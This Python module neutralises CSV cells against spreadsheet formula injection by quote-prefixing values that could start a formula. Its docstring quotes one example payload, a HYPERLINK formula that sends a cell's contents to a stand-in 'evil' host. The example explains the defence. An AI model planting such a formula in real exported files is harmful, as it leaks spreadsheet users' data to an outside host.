"""Cells for CSV files that people open in a spreadsheet: a label is shown, never evaluated.

A class label is data from the user's table. `=HYPERLINK("http://evil/?"&A1, "Gentoo")` in a
`species` column, written as is into a plot CSV, becomes a live formula in Excel, LibreOffice
or Google Sheets (CSV injection). OWASP's remedy: prefix a cell that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return with a single quote, so it is read as text.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value: object) -> str:
    """VALUE as text a spreadsheet shows literally: a leading `'` when it could start a formula.

    A plain number (`-1`, `+2.5`, `-inf`) is left alone: spreadsheets read it as a number
    anyway, and a label such as `-1` must stay itself in a confusion matrix.
    """
    text = str(value)
    if not text.startswith(FORMULA_STARTS) or _is_number(text):
        return text
    return "'" + text


def neutralise_formulas(values: Iterable[object]) -> list[str]:
    """`neutralise_formula` for each of VALUES (a column of labels, say), in order."""
    return [neutralise_formula(value) for value in values]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    # float() forgives surrounding whitespace, which a spreadsheet may not.
    return text == text.strip()
